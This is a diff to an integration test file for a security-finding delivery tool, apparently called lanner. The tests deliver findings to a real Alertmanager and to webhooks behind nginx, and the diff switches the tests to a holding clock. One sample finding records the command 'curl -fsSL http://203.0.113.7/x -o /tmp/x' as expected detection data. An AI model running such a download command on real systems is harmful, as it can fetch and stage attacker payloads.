@@ -4,10 +4,10 @@ import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { systemClock } from '../../src/deliver/clock.ts';
 import { openDeliverer } from '../../src/deliver/dispatcher.ts';
 import { openSink, type SinkConfig, sinkSchema } from '../../src/deliver/sinks/index.ts';
 import { memoryStore } from '../../src/deliver/store/memory.ts';
+import { holdingClock } from '../../src/lib/clock.ts';
 import type { Delivery, Sink } from '../../src/model/delivery.ts';
 import { silentLog } from '../../src/telemetry/log.ts';
 import { createAuthority } from '../support/certificates.ts';
@@ -15,12 +15,17 @@ import { recordedEvents } from '../support/deliver.ts';
 import { aFinding, findings } from '../support/finding.ts';
 import { until } from '../support/fixtures.ts';
 import { get } from '../support/lanner.ts';
+import { tellSkipped } from '../support/real/system.ts';
 import { openReceiver } from '../support/receiver.ts';
 
 /** Programs of Debian's packages: in the PATH, or where ALERTMANAGER and NGINX say. */
 const alertmanager = process.env.ALERTMANAGER ?? 'prometheus-alertmanager';
 const nginx = process.env.NGINX ?? 'nginx';
 const has = (program: string, flag: string) => spawnSync(program, [flag]).status === 0;
+const [hasAlertmanager, hasNginx] = [has(alertmanager, '--version'), has(nginx, '-v')];
+const missing = (there: boolean) => (there ? undefined : 'not installed (.ci/install-real.sh)');
+tellSkipped('delivery to a real Alertmanager', missing(hasAlertmanager));
+tellSkipped('delivery through a real nginx', missing(hasNginx));
 
 const never = new AbortController().signal;
 const delivery: Delivery = { id: 'f-1a2b3c:1:ops', sink: 'ops', finding: aFinding() };
@@ -41,7 +46,7 @@ function freePort(): Promise<number> {
 }
 
 function open(config: object): Sink {
-  const sink = openSink('ops', sinkSchema.parse(config) as SinkConfig, { clock: systemClock });
+  const sink = openSink('ops', sinkSchema.parse(config) as SinkConfig, { clock: holdingClock });
   stops.push(() => sink.close());
   return sink;
 }
@@ -59,101 +64,98 @@ async function isUp(url: string): Promise<void> {
   await until(() => up, `${url} to answer`);
 }
 
-describe.skipIf(!has(alertmanager, '--version'))(
-  'a real Alertmanager (apt install prometheus-alertmanager)',
-  () => {
-    let base = '';
-    const webhook = openReceiver();
-    beforeAll(async () => {
-      const port = await freePort();
-      base = `http://127.0.0.1:${port}`;
-      const { url, close } = await webhook;
-      stops.push(close);
-      const config = join(directory, 'alertmanager.yml');
-      writeFileSync(
-        config,
-        `route: {receiver: r, group_by: [alertname, namespace], group_wait: 100ms, group_interval: 100ms}
+describe.skipIf(!hasAlertmanager)('a real Alertmanager (apt install prometheus-alertmanager)', () => {
+  let base = '';
+  const webhook = openReceiver();
+  beforeAll(async () => {
+    const port = await freePort();
+    base = `http://127.0.0.1:${port}`;
+    const { url, close } = await webhook;
+    stops.push(close);
+    const config = join(directory, 'alertmanager.yml');
+    writeFileSync(
+      config,
+      `route: {receiver: r, group_by: [alertname, namespace], group_wait: 100ms, group_interval: 100ms}
 receivers: [{name: r, webhook_configs: [{url: "${url}"}]}]\n`,
-      );
-      const child = spawn(
-        alertmanager,
-        [
-          `--config.file=${config}`,
-          `--storage.path=${directory}/am`,
-          `--web.listen-address=127.0.0.1:${port}`,
-          '--cluster.listen-address=',
-        ],
-        { stdio: 'ignore' },
-      );
-      stops.push(() => child.kill('SIGKILL'));
-      await isUp(`${base}/-/ready`);
+    );
+    const child = spawn(
+      alertmanager,
+      [
+        `--config.file=${config}`,
+        `--storage.path=${directory}/am`,
+        `--web.listen-address=127.0.0.1:${port}`,
+        '--cluster.listen-address=',
+      ],
+      { stdio: 'ignore' },
+    );
+    stops.push(() => child.kill('SIGKILL'));
+    await isUp(`${base}/-/ready`);
+  });
+
+  const alerts = async () =>
+    JSON.parse(await get(`${base}/api/v2/alerts`)) as {
+      labels: Record<string, string>;
+      annotations: Record<string, string>;
+      startsAt: string;
+      endsAt: string;
+      status: { state: string };
+    }[];
+
+  it('takes findings, keeps them active, groups them and notifies', async () => {
+    const sink = open({ type: 'alertmanager', urls: [base], labels: { team: 'sec' } });
+    expect(await sink.send(delivery, never)).toMatchObject({ kind: 'delivered' });
+    const batch = findings(3).map((finding, index) => ({
+      id: `${finding.id}:1:ops`,
+      sink: 'ops',
+      finding: { ...finding, tool: `tool-${index}` },
+    }));
+    expect(await sink.send({ id: 'd_1', sink: 'ops', batch }, never)).toMatchObject({ kind: 'delivered' });
+    const all = await alerts();
+    expect(all).toHaveLength(4);
+    expect(all.every((alert) => Date.parse(alert.endsAt) > Date.now())).toBe(true);
+    expect(all.find((alert) => alert.labels.tool === 'curl')).toMatchObject({
+      labels: { alertname: 'LannerFinding', severity: 'high', namespace: 'shop', team: 'sec' },
+      annotations: { pod: 'web-7d9f', command: 'curl -fsSL http://203.0.113.7/x -o /tmp/x' },
     });
+    const { received } = await webhook;
+    await until(() => received.length > 0, 'its notification');
+    const body = JSON.parse(received.at(-1)!.body.toString()) as { groupLabels: object; status: string };
+    expect(body).toMatchObject({
+      status: 'firing',
+      groupLabels: { alertname: 'LannerFinding', namespace: 'shop' },
+    });
+  });
 
-    const alerts = async () =>
-      JSON.parse(await get(`${base}/api/v2/alerts`)) as {
-        labels: Record<string, string>;
-        annotations: Record<string, string>;
-        startsAt: string;
-        endsAt: string;
-        status: { state: string };
-      }[];
-
-    it('takes findings, keeps them active, groups them and notifies', async () => {
-      const sink = open({ type: 'alertmanager', urls: [base], labels: { team: 'sec' } });
-      expect(await sink.send(delivery, never)).toMatchObject({ kind: 'delivered' });
-      const batch = findings(3).map((finding, index) => ({
-        id: `${finding.id}:1:ops`,
+  it('resolves a status notice when the trouble is over', async () => {
+    const sink = open({ type: 'alertmanager', urls: [base] });
+    const notice = {
+      schema: 'lanner.notice/v1',
+      id: 'source_down:t:1',
+      kind: 'source_down',
+      state: 'started',
+      severity: 'high',
+      subject: 't',
+      title: 'No events from t',
+      detail: 'down',
+      started: new Date(Date.now() - 60_000).toISOString(),
+    } as const;
+    await sink.send({ id: 'n:started', sink: 'ops', notice }, never);
+    const active = async () =>
+      (await alerts()).filter((alert) => alert.labels.alertname === 'LannerStatus').length;
+    expect(await active()).toBe(1);
+    await sink.send(
+      {
+        id: 'n:ended',
         sink: 'ops',
-        finding: { ...finding, tool: `tool-${index}` },
-      }));
-      expect(await sink.send({ id: 'd_1', sink: 'ops', batch }, never)).toMatchObject({ kind: 'delivered' });
-      const all = await alerts();
-      expect(all).toHaveLength(4);
-      expect(all.every((alert) => Date.parse(alert.endsAt) > Date.now())).toBe(true);
-      expect(all.find((alert) => alert.labels.tool === 'curl')).toMatchObject({
-        labels: { alertname: 'LannerFinding', severity: 'high', namespace: 'shop', team: 'sec' },
-        annotations: { pod: 'web-7d9f', command: 'curl -fsSL http://203.0.113.7/x -o /tmp/x' },
-      });
-      const { received } = await webhook;
-      await until(() => received.length > 0, 'its notification');
-      const body = JSON.parse(received.at(-1)!.body.toString()) as { groupLabels: object; status: string };
-      expect(body).toMatchObject({
-        status: 'firing',
-        groupLabels: { alertname: 'LannerFinding', namespace: 'shop' },
-      });
-    });
+        notice: { ...notice, state: 'ended', ended: new Date().toISOString() },
+      },
+      never,
+    );
+    expect(await active()).toBe(0);
+  });
+});
 
-    it('resolves a status notice when the trouble is over', async () => {
-      const sink = open({ type: 'alertmanager', urls: [base] });
-      const notice = {
-        schema: 'lanner.notice/v1',
-        id: 'source_down:t:1',
-        kind: 'source_down',
-        state: 'started',
-        severity: 'high',
-        subject: 't',
-        title: 'No events from t',
-        detail: 'down',
-        started: new Date(Date.now() - 60_000).toISOString(),
-      } as const;
-      await sink.send({ id: 'n:started', sink: 'ops', notice }, never);
-      const active = async () =>
-        (await alerts()).filter((alert) => alert.labels.alertname === 'LannerStatus').length;
-      expect(await active()).toBe(1);
-      await sink.send(
-        {
-          id: 'n:ended',
-          sink: 'ops',
-          notice: { ...notice, state: 'ended', ended: new Date().toISOString() },
-        },
-        never,
-      );
-      expect(await active()).toBe(0);
-    });
-  },
-);
-
-describe.skipIf(!has(nginx, '-v'))('a real nginx in front (apt install nginx-light)', () => {
+describe.skipIf(!hasNginx)('a real nginx in front (apt install nginx)', () => {
   const authority = createAuthority();
   const server = authority.server(['127.0.0.1']);
   const client = authority.client('lanner');
@@ -250,7 +252,7 @@ http {
       sinks: [open({ type: 'webhook', url: `https://127.0.0.1:${port}/`, tls: tls() })],
       store: memoryStore(),
       log: silentLog,
-      clock: systemClock,
+      clock: holdingClock,
       random: Math.random,
       events: recorded.events,
     });
@@ -269,7 +271,7 @@ http {
       sinks: [open({ type: 'webhook', url: `https://127.0.0.1:${port}/slow`, tls: tls(), concurrency: 4 })],
       store: memoryStore(),
       log: silentLog,
-      clock: systemClock,
+      clock: holdingClock,
       random: Math.random,
       events: recordedEvents().events,
     });
